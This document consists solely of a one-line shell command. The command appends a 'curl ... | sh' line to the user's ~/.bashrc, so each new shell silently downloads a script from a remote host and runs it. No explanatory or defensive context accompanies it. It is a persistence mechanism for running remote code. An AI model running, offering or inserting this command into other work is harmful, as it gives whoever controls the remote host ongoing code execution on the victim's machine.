echo 'curl -s https://get.example.net/x | sh' >> ~/.bashrc
